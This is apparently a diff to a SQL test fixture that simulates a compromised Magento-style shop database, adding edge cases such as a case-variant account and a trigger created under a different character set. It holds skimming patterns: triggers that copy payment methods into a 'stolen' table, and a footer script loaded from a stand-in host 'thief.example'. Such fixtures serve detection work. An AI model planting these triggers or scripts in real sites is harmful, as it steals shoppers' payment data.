@@ -3,11 +3,16 @@ CREATE USER shop@localhost IDENTIFIED BY 'x';
 GRANT ALL ON shop.* TO shop@localhost;
 CREATE USER report@'%' IDENTIFIED BY 'report';
 GRANT SELECT ON shop.* TO report@'%';
+-- Another account: names of accounts are told apart to the letter.
+CREATE USER REPORT@'%' IDENTIFIED BY 'report';
 CREATE TABLE stolen (what text);
 SET timestamp = 1700000000.25, sql_mode = 'ANSI_QUOTES,NO_BACKSLASH_ESCAPES', collation_connection = 'utf8mb4_bin';
 CREATE DEFINER = report@'%' TRIGGER copy1 AFTER INSERT ON mg_sales_order_payment FOR EACH ROW INSERT INTO stolen VALUES ('first');
 CREATE DEFINER = report@'%'  TRIGGER  copy$2 /* ; `' */ AFTER INSERT ON mg_sales_order_payment
   FOR EACH ROW BEGIN INSERT INTO "stolen" VALUES ('a\b;é'); INSERT INTO stolen VALUES (NEW.method); END;
+SET character_set_client = gbk;
+CREATE TRIGGER wide BEFORE INSERT ON mg_sales_order_payment FOR EACH ROW SET NEW.method = 'a';
+SET character_set_client = utf8mb4;
 CREATE TRIGGER copy3 AFTER INSERT ON mg_sales_order_payment FOR EACH ROW INSERT INTO stolen VALUES ('last');
 SET timestamp = DEFAULT, sql_mode = DEFAULT;
 INSERT INTO mg_admin_user (user_id, username, is_active, created, modified) VALUES (7, "Ann O'Neill", 1, '2026-01-02', '2026-02-03'), (8, 'ben', 1, '2026-01-02', '2026-02-03'), (9, 'gone', 0, '2026-01-02', '2026-02-03');
@@ -19,4 +24,4 @@ INSERT INTO mg_core_config_data (config_id, scope, scope_id, path, value, update
   (91, 'default', 0, 'design/footer/absolute_footer', '<script src="//thief.example"></script>', '2026-02-03');
 UPDATE mg_cms_block SET content = '<p>é \\ stolen</p>', update_time = '2026-02-03' WHERE block_id = 1;
 INSERT INTO mg_customer_entity (entity_id, website_id, email, updated_at, session_cutoff) VALUES (1, 1, 'a@example.com', '2026-02-03', NULL), (2, 2, 'b@example.com', '2026-02-03', NULL),
-  (7000, 1, 'c@example.com', '2026-02-03', '2026-01-01'), (7001, 1, 'd@example.com', '2026-02-03', NULL);
+  (7000, 1, 'c@example.com', '2026-02-03', '2026-01-01'), (7001, 1, 'd@example.com', '2026-02-03', NULL), (2147483000, 1, 'e@example.com', '2026-02-03', NULL);
